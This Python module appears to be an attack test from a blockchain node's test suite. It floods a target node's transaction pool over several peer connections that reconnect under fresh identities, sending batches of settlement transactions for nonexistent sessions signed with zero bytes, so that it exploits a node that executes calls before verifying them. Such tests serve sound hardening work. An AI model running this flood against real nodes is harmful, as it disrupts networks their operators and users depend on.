"""Duties that nobody signed: a node that executes before it verifies works for free."""

import secrets
from functools import partial

import trio

from chain.modules.sessions import Settle, Voucher, sign_voucher
from chain.primitives.codec import encode
from chain.primitives.keys import KeyPair
from chain.runtime import build_call
from chain.transaction import SignedTransaction, Transaction
from p2p.switch.switch import Switch
from p2p.wire.messages import Transactions
from p2p.wire.protocols import POOL
from p2p.wire.requests import open_stream, send_message
from tests.attacks.target import Target, fetch_height, keep_coming

SECONDS = 25.0
CONNECTIONS = 4
BATCH = 512


async def attack(target: Target) -> None:
    """All connections at once; a cut one comes back under a new identity."""
    height = await fetch_height(target)
    async with trio.open_nursery() as nursery:
        for number in range(CONNECTIONS):
            nursery.start_soon(keep_coming, target, target.get_host(number), partial(_send, target, height))


def build_batch(target: Target, height: int) -> Transactions:
    """Settlements of sessions that do not exist, under signatures of zeros."""
    key = KeyPair(secrets.token_bytes(32))
    batch = []
    for _ in range(BATCH):
        voucher = Voucher(target.genesis_hash, secrets.token_bytes(32), key.public_key, 1, 1)
        call = build_call(Settle(sign_voucher(key, voucher)))
        unsigned = Transaction(1, target.genesis_hash, key.public_key, 0, height + 60, 0, 0, (call,))
        batch.append(encode(SignedTransaction(unsigned, bytes(64))))
    return Transactions(tuple(batch))


async def _send(target: Target, height: int, peer: Switch) -> None:
    async with open_stream(peer, target.place.peer, POOL) as stream:
        while True:
            await send_message(stream, build_batch(target, height))
